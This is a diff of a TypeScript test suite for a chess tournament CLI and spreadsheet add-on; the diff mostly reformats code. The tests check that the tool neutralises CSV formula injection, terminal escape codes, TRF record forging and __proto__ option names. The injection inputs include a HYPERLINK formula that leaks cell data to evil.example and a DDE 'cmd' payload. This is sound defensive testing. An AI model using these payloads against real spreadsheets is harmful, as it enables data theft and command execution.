@@ -24,7 +24,8 @@ import type { SheetRange } from '../../src/sheets/arguments';
 import { splitTableOptions } from '../../src/sheets/tableOptions';
 
 /** =MODMEDIAN as the build makes it: one line of src/sheets/namedFunctions.ts. */
-const MODMEDIAN = (crosstable: SheetRange, player?: unknown, after_round?: unknown, options?: unknown) => namedFunction('MODMEDIAN', crosstable, player, after_round, options);
+const MODMEDIAN = (crosstable: SheetRange, player?: unknown, after_round?: unknown, options?: unknown) =>
+  namedFunction('MODMEDIAN', crosstable, player, after_round, options);
 
 const example = (name: string) => fs.readFileSync(path.join(__dirname, '../../examples', name), 'utf8');
 const SWISS = example('spring-swiss.csv');
@@ -44,15 +45,15 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const ch = text[i];
     if (inQuotes) {
-      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      if (ch === '"' && text[i + 1] === '"') ((cell += '"'), i++);
       else if (ch === '"') inQuotes = false;
       else cell += ch;
     } else if (ch === '"') inQuotes = true;
-    else if (ch === ',') row.push(cell), (cell = '');
-    else if (ch === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
+    else if (ch === ',') (row.push(cell), (cell = ''));
+    else if (ch === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''));
     else cell += ch;
   }
-  if (cell || row.length) row.push(cell), rows.push(row);
+  if (cell || row.length) (row.push(cell), rows.push(row));
   return rows;
 }
 
@@ -69,13 +70,15 @@ const FORMULAS: [string, string][] = [
   ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
   ['+1+1', "'+1+1"],
   ['@SUM(A1)', "'@SUM(A1)"],
-  ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
 ];
 
 // ---------------------------------------------------------------------------------------------
 describe('1. CSV output is neutralised for a spreadsheet', () => {
   test.each(FORMULAS)('standings: the name %s is written as text', (name, cell) => {
-    const r = runCli(['standings', 'swiss.csv', '--format', 'csv'], { 'swiss.csv': SWISS.replace('Marcus Webb', quoted(name)) });
+    const r = runCli(['standings', 'swiss.csv', '--format', 'csv'], {
+      'swiss.csv': SWISS.replace('Marcus Webb', quoted(name)),
+    });
     expect(r.status).toBe(0);
     expect(column(r.out, 'name')[0]).toBe(cell);
     // Numbers stay numbers: the rest of Marcus Webb's row is unchanged.
@@ -97,13 +100,17 @@ describe('1. CSV output is neutralised for a spreadsheet', () => {
   });
 
   test('team standings: a team name that is a formula is written as text', () => {
-    const r = runCli(['standings', 'teams.csv', '--format', 'csv'], { 'teams.csv': TEAMS.replace('Ann Arbor Knights', '=1+1') });
+    const r = runCli(['standings', 'teams.csv', '--format', 'csv'], {
+      'teams.csv': TEAMS.replace('Ann Arbor Knights', '=1+1'),
+    });
     expect(r.status).toBe(0);
     expect(column(r.out, 'team')).toContain("'=1+1");
   });
 
   test('board prizes: player and team names that are formulas are written as text', () => {
-    const r = runCli(['boards', 'boards.csv', '--format', 'csv'], { 'boards.csv': BOARDS.replace(/Gus Gray/g, '@SUM(A1)').replace(/Saginaw Sharks/g, '+1+1') });
+    const r = runCli(['boards', 'boards.csv', '--format', 'csv'], {
+      'boards.csv': BOARDS.replace(/Gus Gray/g, '@SUM(A1)').replace(/Saginaw Sharks/g, '+1+1'),
+    });
     expect(r.status).toBe(0);
     expect(column(r.out, 'player')).toContain("'@SUM(A1)");
     expect(column(r.out, 'team')).toContain("'+1+1");
@@ -112,7 +119,10 @@ describe('1. CSV output is neutralised for a spreadsheet', () => {
 
   test('prizes: a trophy named like a formula and a winner named like one are written as text', () => {
     const crosstable = SWISS.replace('Marcus Webb', '=HYPERLINK("x")');
-    const r = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'csv'], { 'swiss.csv': crosstable, 'prizes.csv': PRIZES.replace('Book prize', '@Trophy') });
+    const r = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'csv'], {
+      'swiss.csv': crosstable,
+      'prizes.csv': PRIZES.replace('Book prize', '@Trophy'),
+    });
     expect(r.status).toBe(0);
     expect(column(r.out, 'name')).toContain(`'=HYPERLINK("x")`);
     expect(column(r.out, 'prize')).toContain("'@Trophy");
@@ -121,10 +131,15 @@ describe('1. CSV output is neutralised for a spreadsheet', () => {
   });
 
   test('--csv-raw writes every name exactly as read, for a program that reads the CSV', () => {
-    const r = runCli(['standings', 'swiss.csv', '--format', 'csv', '--csv-raw'], { 'swiss.csv': SWISS.replace('Marcus Webb', quoted('=1+1\u001b')) });
+    const r = runCli(['standings', 'swiss.csv', '--format', 'csv', '--csv-raw'], {
+      'swiss.csv': SWISS.replace('Marcus Webb', quoted('=1+1\u001b')),
+    });
     expect(r.status).toBe(0);
     expect(column(r.out, 'name')[0]).toBe('=1+1\u001b');
-    const prizes = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'csv', '--csv-raw'], { 'swiss.csv': SWISS.replace('Marcus Webb', '+1+1'), 'prizes.csv': PRIZES });
+    const prizes = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'csv', '--csv-raw'], {
+      'swiss.csv': SWISS.replace('Marcus Webb', '+1+1'),
+      'prizes.csv': PRIZES,
+    });
     expect(column(prizes.out, 'name')).toContain('+1+1');
   });
 
@@ -165,7 +180,11 @@ describe('2. Control characters are shown, not sent to the terminal', () => {
   });
 
   test('a cell with a line break stays on its line of the table', () => {
-    expect(fixedWidthLines(['Name', 'No.'], [['Ann\nAdams', '1']], (c) => c === 1)).toEqual(['Name          No.', '------------  ---', 'Ann\\x0AAdams    1']);
+    expect(fixedWidthLines(['Name', 'No.'], [['Ann\nAdams', '1']], (c) => c === 1)).toEqual([
+      'Name          No.',
+      '------------  ---',
+      'Ann\\x0AAdams    1',
+    ]);
   });
 
   test('--explain text shows control characters as \\xNN', () => {
@@ -190,15 +209,23 @@ describe('2. Control characters are shown, not sent to the terminal', () => {
   });
 
   test('team tables, board prizes and prize lists are printed the same way', () => {
-    const team = runCli(['standings', 'teams.csv'], { 'teams.csv': TEAMS.replace('Ann Arbor Knights', 'Ann\u001b[31m Arbor') });
+    const team = runCli(['standings', 'teams.csv'], {
+      'teams.csv': TEAMS.replace('Ann Arbor Knights', 'Ann\u001b[31m Arbor'),
+    });
     expect(team.status).toBe(0);
     expect(team.out).toContain('Ann\\x1B[31m Arbor');
     const boards = runCli(['boards', 'boards.csv'], { 'boards.csv': BOARDS.replace(/Gus Gray/g, 'Gus\u001b[5m Gray') });
     expect(boards.status).toBe(0);
     expect(boards.out).toContain('Gus\\x1B[5m Gray');
     // 16 prizes for 15 players: the last is not awarded, and its line quotes the prize's name.
-    const many = ['Group,Place,Prize', ...Array.from({ length: 16 }, (_, i) => `Overall,${i + 1},Cup${i === 15 ? '\u001b[8m' : ''}`)].join('\n');
-    const prizes = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--one-prize', 'off'], { 'swiss.csv': SWISS.replace('Marcus Webb', 'Marcus\u001b[1m Webb'), 'prizes.csv': many });
+    const many = [
+      'Group,Place,Prize',
+      ...Array.from({ length: 16 }, (_, i) => `Overall,${i + 1},Cup${i === 15 ? '\u001b[8m' : ''}`),
+    ].join('\n');
+    const prizes = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--one-prize', 'off'], {
+      'swiss.csv': SWISS.replace('Marcus Webb', 'Marcus\u001b[1m Webb'),
+      'prizes.csv': many,
+    });
     expect(prizes.status).toBe(0);
     for (const r of [team, boards, prizes]) expect(r.out).not.toMatch(OBEYED);
     expect(prizes.out).toContain('Marcus\\x1B[1m Webb');
@@ -209,19 +236,30 @@ describe('2. Control characters are shown, not sent to the terminal', () => {
 // ---------------------------------------------------------------------------------------------
 describe('3. export-trf refuses a control character in any field it writes', () => {
   test('--name with a line break would forge a record: refused, naming the field', () => {
-    const r = runCli(['export-trf', 'swiss.csv', '--name', 'Open\n001 9999      Forged Player'], { 'swiss.csv': SWISS });
+    const r = runCli(['export-trf', 'swiss.csv', '--name', 'Open\n001 9999      Forged Player'], {
+      'swiss.csv': SWISS,
+    });
     expect(r.status).toBe(2);
     expect(r.out).toBe('');
-    expect(r.err).toBe('the event name (--name, TRF line 012) holds a line break (U+000A) at character 5; expected one line of printable text.\n');
+    expect(r.err).toBe(
+      'the event name (--name, TRF line 012) holds a line break (U+000A) at character 5; expected one line of printable text.\n',
+    );
   });
 
   test('--name with ESC or a carriage return is refused too', () => {
-    expect(runCli(['export-trf', 'swiss.csv', '--name', 'Open\u001b[2J'], { 'swiss.csv': SWISS }).err).toContain('holds a control character (U+001B) at character 5');
-    expect(runCli(['export-trf', 'swiss.csv', '--name', 'Open\r'], { 'swiss.csv': SWISS }).err).toContain('holds a line break (U+000D) at character 5');
+    expect(runCli(['export-trf', 'swiss.csv', '--name', 'Open\u001b[2J'], { 'swiss.csv': SWISS }).err).toContain(
+      'holds a control character (U+001B) at character 5',
+    );
+    expect(runCli(['export-trf', 'swiss.csv', '--name', 'Open\r'], { 'swiss.csv': SWISS }).err).toContain(
+      'holds a line break (U+000D) at character 5',
+    );
   });
 
   test("a player's name with a control character is refused with the player's row", () => {
-    const csv = SWISS.replace('Elena Sokolova', quoted('Elena\u0085Sokolova')).replace('David Okafor', quoted('David\u001bOkafor'));
+    const csv = SWISS.replace('Elena Sokolova', quoted('Elena\u0085Sokolova')).replace(
+      'David Okafor',
+      quoted('David\u001bOkafor'),
+    );
     const r = runCli(['export-trf', 'swiss.csv'], { 'swiss.csv': csv });
     expect(r.status).toBe(2);
     expect(r.out).toBe('');
@@ -232,7 +270,9 @@ describe('3. export-trf refuses a control character in any field it writes', () 
   });
 
   test('an ordinary name with accents is written as before', () => {
-    const r = runCli(['export-trf', 'swiss.csv', '--name', 'Spring Open — Łódź 2026'], { 'swiss.csv': SWISS.replace('Marcus Webb', 'Marcus Wébb') });
+    const r = runCli(['export-trf', 'swiss.csv', '--name', 'Spring Open — Łódź 2026'], {
+      'swiss.csv': SWISS.replace('Marcus Webb', 'Marcus Wébb'),
+    });
     expect(r.status).toBe(0);
     expect(r.out.split('\n')[0]).toBe('012 Spring Open — Łódź 2026');
     expect(r.out).toContain('Marcus Wébb');
@@ -248,12 +288,15 @@ describe('4. Option names are looked up as own properties only', () => {
     [3, 'Cai', 'B', 'L1'],
   ];
 
-  test.each(['MM:__proto__=1', 'MM(__proto__=1)', 'SB(__PROTO__=adjusted)'])('CLI --tiebreaks %s is a usage error naming the option', (order) => {
-    const r = runCli(['standings', 'swiss.csv', '--tiebreaks', order], { 'swiss.csv': SWISS });
-    expect(r.status).toBe(2);
-    expect(r.out).toBe('');
-    expect(r.err.split('\n')[0]).toMatch(/^(MM|SB) has no option "__proto__" \(its options: .+\)\.$/);
-  });
+  test.each(['MM:__proto__=1', 'MM(__proto__=1)', 'SB(__PROTO__=adjusted)'])(
+    'CLI --tiebreaks %s is a usage error naming the option',
+    (order) => {
+      const r = runCli(['standings', 'swiss.csv', '--tiebreaks', order], { 'swiss.csv': SWISS });
+      expect(r.status).toBe(2);
+      expect(r.out).toBe('');
+      expect(r.err.split('\n')[0]).toMatch(/^(MM|SB) has no option "__proto__" \(its options: .+\)\.$/);
+    },
+  );
 
   test('a FIDE code with a modifier and __proto__ is refused too', () => {
     const r = runCli(['standings', 'swiss.csv', '--tiebreaks', 'BH/C1(__proto__=x)'], { 'swiss.csv': SWISS });
@@ -266,11 +309,16 @@ describe('4. Option names are looked up as own properties only', () => {
     expect(() => STANDINGS(valid, 'MM(__proto__=1), SOLK')).toThrow(/^MM has no option "__proto__"/);
   });
 
-  test.each(['constructor=1', 'toString=us', 'hasOwnProperty=1', 'valueOf=x'])('an options argument %s is an unknown option, not a crash', (options) => {
-    expect(() => STANDINGS(valid, 'MM', '', '', options)).toThrow(new Error(`Unknown option "${options}"; expected ${splitTableOptionsShapes()}, separated by ";".`));
-    expect(splitTableOptions(options)).toEqual({ table: {}, rest: [options] });
-    expect(() => MODMEDIAN(valid, '', '', options)).toThrow(/^Unknown option/);
-  });
+  test.each(['constructor=1', 'toString=us', 'hasOwnProperty=1', 'valueOf=x'])(
+    'an options argument %s is an unknown option, not a crash',
+    (options) => {
+      expect(() => STANDINGS(valid, 'MM', '', '', options)).toThrow(
+        new Error(`Unknown option "${options}"; expected ${splitTableOptionsShapes()}, separated by ";".`),
+      );
+      expect(splitTableOptions(options)).toEqual({ table: {}, rest: [options] });
+      expect(() => MODMEDIAN(valid, '', '', options)).toThrow(/^Unknown option/);
+    },
+  );
 
   test('a round-robin cell reading "constructor" is a bad result with its cell, not a crash', () => {
     const rr = ['No.,Name,1,2,3', '1,Ann,*,1,constructor', '2,Ben,0,*,1', '3,Cai,0,0,*'].join('\n') + '\n';
@@ -283,7 +331,17 @@ describe('4. Option names are looked up as own properties only', () => {
 /** The table options' shapes as tableOptionsArg lists them. */
 function splitTableOptionsShapes(): string {
   try {
-    STANDINGS([['No.', 'Name', 'R1'], [1, 'Ann', 'W2'], [2, 'Ben', 'L1']], 'MM', '', '', 'zz=1');
+    STANDINGS(
+      [
+        ['No.', 'Name', 'R1'],
+        [1, 'Ann', 'W2'],
+        [2, 'Ben', 'L1'],
+      ],
+      'MM',
+      '',
+      '',
+      'zz=1',
+    );
   } catch (e) {
     return /expected (.*), separated by ";"\.$/.exec((e as Error).message)![1];
   }
@@ -297,14 +355,22 @@ describe('5. Money is counted to the cent: no prize and no sum beyond the stated
   test('two prizes whose pool passes 2^53 cents are refused at the first prize over the maximum', () => {
     // Each under 2^53 cents, their sum over it: pooled among the three tied on 4 points, 3 × 3333333333333333
     // cents were paid of 10000000000000001, and exit status 0.
-    const r = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'json'], files('Group,Place,Prize\nOverall,1,"$50,000,000,000,000.00"\nOverall,2,"$50,000,000,000,000.01"\n'));
+    const r = runCli(
+      ['prizes', 'swiss.csv', 'prizes.csv', '--format', 'json'],
+      files('Group,Place,Prize\nOverall,1,"$50,000,000,000,000.00"\nOverall,2,"$50,000,000,000,000.01"\n'),
+    );
     expect(r.status).toBe(2);
     expect(r.out).toBe('');
-    expect(r.err.split('\n')[0]).toBe('C2: "$50,000,000,000,000.00" is more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected a smaller amount.');
+    expect(r.err.split('\n')[0]).toBe(
+      'C2: "$50,000,000,000,000.00" is more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected a smaller amount.',
+    );
   });
 
   test('prizes each within the maximum whose sum passes it are refused at the prize that passes it', () => {
-    const r = runCli(['prizes', 'swiss.csv', 'prizes.csv'], files('Group,Place,Prize\nOverall,1,"$600,000,000,000.00"\nOverall,2,"$400,000,000,000.00"\nOverall,3,$0.01\n'));
+    const r = runCli(
+      ['prizes', 'swiss.csv', 'prizes.csv'],
+      files('Group,Place,Prize\nOverall,1,"$600,000,000,000.00"\nOverall,2,"$400,000,000,000.00"\nOverall,3,$0.01\n'),
+    );
     expect(r.status).toBe(2);
     expect(r.err).toBe(
       'C4: the cash prizes down to this one add up to $1,000,000,000,000.01, more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected prizes that add up to no more.\n',
@@ -312,14 +378,22 @@ describe('5. Money is counted to the cent: no prize and no sum beyond the stated
   });
 
   test('an amount too long to count to the cent says so, rather than "not an amount"', () => {
-    const r = runCli(['prizes', 'swiss.csv', 'prizes.csv'], files('Group,Place,Prize\nOverall,1,$100000000000000000000\n'));
+    const r = runCli(
+      ['prizes', 'swiss.csv', 'prizes.csv'],
+      files('Group,Place,Prize\nOverall,1,$100000000000000000000\n'),
+    );
     expect(r.status).toBe(2);
-    expect(r.err).toBe('C2: "$100000000000000000000" is more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected a smaller amount.\n');
+    expect(r.err).toBe(
+      'C2: "$100000000000000000000" is more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected a smaller amount.\n',
+    );
   });
 
   test('a fund of exactly the maximum is paid to the cent', () => {
     expect(MAX_PRIZE_FUND_CENTS).toBe(100_000_000_000_000);
-    const r = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'json'], files('Group,Place,Prize\nOverall,1,"$500,000,000,000.00"\nOverall,2,"$499,999,999,999.99"\nOverall,3,$0.01\n'));
+    const r = runCli(
+      ['prizes', 'swiss.csv', 'prizes.csv', '--format', 'json'],
+      files('Group,Place,Prize\nOverall,1,"$500,000,000,000.00"\nOverall,2,"$499,999,999,999.99"\nOverall,3,$0.01\n'),
+    );
     expect(r.status).toBe(0);
     const cents = (JSON.parse(r.out) as { prizes: { cents: number | null }[] }).prizes.map((p) => p.cents!);
     // Three players tie on 4 points: the pool of all three is split, and every cent is paid.
@@ -350,7 +424,9 @@ describe('6. --explain as JSON; an empty tiebreak code is a usage error', () => 
     const unused = json.tiebreaks.filter((t: { value: number | null }) => t.value === null);
     for (const t of unused) expect(t.explanation).toBeNull();
     const text = runCli(['standings', 'swiss.csv', '--explain', '15'], { 'swiss.csv': SWISS }).out;
-    expect(text.split('\n').filter((l) => l.endsWith('not needed (no tie left at this step)'))).toHaveLength(unused.length);
+    expect(text.split('\n').filter((l) => l.endsWith('not needed (no tie left at this step)'))).toHaveLength(
+      unused.length,
+    );
   });
 
   test('a team table: --explain N --format json too', () => {
@@ -376,7 +452,9 @@ describe('6. --explain as JSON; an empty tiebreak code is a usage error', () => 
   test('--tiebreaks "" is a usage error, not the default order', () => {
     const r = runCli(['standings', 'swiss.csv', '--tiebreaks', ' '], { 'swiss.csv': SWISS });
     expect(r.status).toBe(2);
-    expect(r.err.split('\n')[0]).toBe('--tiebreaks is empty; expected codes such as "MM, SOLK, CUM", or leave it out for the US Chess order.');
+    expect(r.err.split('\n')[0]).toBe(
+      '--tiebreaks is empty; expected codes such as "MM, SOLK, CUM", or leave it out for the US Chess order.',
+    );
   });
 
   test('commas with spaces, spaces alone and options in parentheses still read as before', () => {
@@ -386,8 +464,19 @@ describe('6. --explain as JSON; an empty tiebreak code is a usage error', () => 
   });
 
   test('STANDINGS in a sheet refuses an empty code the same way', () => {
-    expect(() => STANDINGS([['No.', 'Name', 'R1'], [1, 'Ann', 'W2'], [2, 'Ben', 'L1']], 'MM,,SOLK')).toThrow(
-      new Error('"MM,,SOLK" has an empty tiebreak code (code 2 of the list is blank); expected codes separated by commas, such as "MM, SOLK, CUM".'),
+    expect(() =>
+      STANDINGS(
+        [
+          ['No.', 'Name', 'R1'],
+          [1, 'Ann', 'W2'],
+          [2, 'Ben', 'L1'],
+        ],
+        'MM,,SOLK',
+      ),
+    ).toThrow(
+      new Error(
+        '"MM,,SOLK" has an empty tiebreak code (code 2 of the list is blank); expected codes separated by commas, such as "MM, SOLK, CUM".',
+      ),
     );
   });
 });
